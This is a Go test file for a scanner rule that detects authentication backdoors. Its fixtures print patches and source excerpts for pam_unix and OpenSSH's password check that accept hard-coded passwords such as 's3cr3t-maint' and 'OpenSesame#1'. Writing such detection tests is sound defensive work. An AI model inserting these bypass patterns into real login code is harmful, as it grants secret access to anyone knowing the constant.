package shell

import (
	"slices"
	"testing"
)

// The source or patch of a password check that lets a constant in, however it is spelt, and
// the same code's clean shapes.
func TestAuthSourceBypass(t *testing.T) {
	found := []struct{ name, path, text string }{
		{"context diff of pam_unix", "/usr/local/src/pam/unix.patch", "*** modules/pam_unix/pam_unix_auth.c\n--- pam_unix_auth.c\n***************\n*** 170,176 ****\n! \tretval = _unix_verify_password(pamh, name, p, ctrl);\n--- 170,180 ----\n!\tif (strcmp(p, \"Zq!9-open\") != 0) {\n!\t\tretval = _unix_verify_password(pamh, name, p, ctrl);\n!\t} else {\n!\t\tretval = PAM_SUCCESS;\n!\t}\n"},
		{"unified diff", "/root/build/0001-auth.diff", "--- a/modules/pam_unix/pam_unix_auth.c\n+++ b/modules/pam_unix/pam_unix_auth.c\n@@ -170,6 +170,8 @@\n \tD((\"user=%s\", name));\n+\tif (!strcmp(p, \"s3cr3t-maint\"))\n+\t\treturn PAM_SUCCESS;\n \tretval = _unix_verify_password(pamh, name, p, ctrl);\n"},
		{"pam source with strncmp", "/usr/src/Linux-PAM-1.5.2/modules/pam_unix/pam_unix_auth.c", "int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)\n{\n\tconst char *pass;\n\tint retval;\n\tretval = pam_get_authtok(pamh, PAM_AUTHTOK, &pass, NULL);\n\tif (strncmp(pass, \"letmein42\", 9) == 0) {\n\t\tretval = PAM_SUCCESS;\n\t\tgoto out;\n\t}\n"},
		{"sshd password function", "/usr/src/openssh-9.6p1/auth-passwd.c", "int\nauth_password(struct ssh *ssh, const char *password)\n{\n\tif (strcmp(password, \"OpenSesame#1\") == 0)\n\t\treturn 1;\n\treturn sys_auth_passwd(ssh, password);\n}\n"},
		{"literal first", "/opt/src/auth.c", "/* pam_unix_auth */\nif (0 == strcmp(\"b4ckd00r\", password)) {\n    authenticated = 1;\n}\n"},
	}
	for _, c := range found {
		t.Run(c.name, func(t *testing.T) {
			fs := scanFile(c.path, c.text)
			if !slices.Contains(rules(fs), RuleAuthSource) {
				t.Fatalf("no %s\n%s", RuleAuthSource, dump(fs))
			}
		})
	}
	clean := []struct{ name, path, text string }{
		{"empty password check", "/usr/src/openssh-9.6p1/auth-passwd.c", "int\nsys_auth_passwd(struct ssh *ssh, const char *password)\n{\n\tif (strcmp(pw_password, \"\") == 0 && strcmp(password, \"\") == 0)\n\t\treturn (1);\n\treturn (strcmp(encrypted_password, pw_password) == 0);\n}\n"},
		{"field names compared", "/usr/src/Linux-PAM/modules/pam_succeed_if/pam_succeed_if.c", "static int evaluate(pam_handle_t *pamh, const char *left)\n{\n\tif (strcmp(left, \"user\") == 0) {\n\t\treturn PAM_SUCCESS;\n\t}\n\treturn PAM_AUTH_ERR;\n}\n"},
		{"backdoor removed by a patch", "/usr/src/fix/0002-remove.patch", "--- a/pam_unix_auth.c\n+++ b/pam_unix_auth.c\n@@ -1,5 +1,3 @@\n-\tif (!strcmp(p, \"s3cr3t-maint\"))\n-\t\treturn PAM_SUCCESS;\n \tretval = _unix_verify_password(pamh, name, p, ctrl);\n"},
		{"no auth code", "/usr/src/app/main.c", "int main(void) {\n\tif (strcmp(pass, \"quit\") == 0)\n\t\treturn 1;\n}\n"},
	}
	for _, c := range clean {
		t.Run("clean "+c.name, func(t *testing.T) {
			if fs := scanFile(c.path, c.text); slices.Contains(rules(fs), RuleAuthSource) {
				t.Fatalf("want no %s\n%s", RuleAuthSource, dump(fs))
			}
		})
	}
}
